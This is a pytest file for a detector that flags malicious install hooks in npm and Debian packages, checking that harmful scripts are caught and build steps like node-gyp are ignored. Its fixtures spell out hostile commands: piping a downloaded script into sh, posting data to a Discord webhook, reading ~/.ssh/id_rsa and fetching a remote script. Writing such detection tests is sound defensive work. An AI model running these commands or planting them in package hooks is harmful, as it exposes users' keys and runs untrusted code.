from __future__ import annotations

import json

import pytest

from detectors.software import hooks
from detectors.software.budget import PROFILES, Budget
from detectors.software.unpack import Node


def look(content: bytes, name: str = "package/package.json", path: str = ""):
    budget = Budget(PROFILES["package"], lambda: 0.0)
    node = Node(path or f"x.tgz!/x.tar!/{name}", memoryview(content), "json", 2, name=name)
    return {e.rule for e in hooks.look(node, budget)}, {x.name for x in budget.limits}


def npm(**scripts: str) -> bytes:
    return json.dumps({"name": "x", "scripts": scripts}).encode()


@pytest.mark.parametrize(("script", "rule"), [
    ("curl -s http://x.example/a | sh", "hook.shell"), ("node -e \"require('child_process')\"", "hook.fetches"),
    ("curl https://discord.com/api/webhooks/1 -d @-", "hook.drop"), ("cat ~/.ssh/id_rsa", "hook.stores"),
    ("wget http://203.0.113.9/x.sh", "hook.fetches"),
])  # fmt: skip
def test_an_install_script_that_does_harm_is_found(script, rule):
    for name in ("preinstall", "install", "postinstall"):
        assert {rule, "hook.install"} <= look(npm(**{name: script}))[0]


@pytest.mark.parametrize("script", ["node-gyp rebuild", "prebuild-install || node-gyp rebuild", "husky install"])
def test_what_builds_is_nothing(script):
    assert look(npm(install=script)) == (set(), set())


def test_scripts_that_nobody_runs_at_installation_are_nothing():
    assert look(npm(test="curl http://x.example/a | sh", start="node -e 1")) == (set(), set())


def test_a_manifest_of_something_inside_is_not_the_packages_own():
    assert look(npm(postinstall="node -e 1"), "package/node_modules/y/package.json") == (set(), set())


@pytest.mark.parametrize("content", [b"{", b"[1]", b'{"scripts": 1}', b'{"scripts": {"install": 1}}', b"[" * 100_000])
def test_a_manifest_that_is_none_is_told_or_nothing(content):
    found, limits = look(content)
    assert not found
    assert limits <= {"damaged"}


def test_a_debian_packages_script_is_read():
    path = "x.deb!/control.tar.gz!/control.tar!/./postinst"
    assert "hook.shell" in look(b"#!/bin/sh\nset -e\ncurl http://x.example/a | sh\n", "./postinst", path)[0]
    assert look(b"#!/bin/sh\nldconfig\n", "./postinst", path) == (set(), set())


def test_every_rule_is_one_of_these():
    assert set(hooks.WEIGHTS) == {"hook.install", "hook.fetches", "hook.drop", "hook.stores", "hook.shell"}
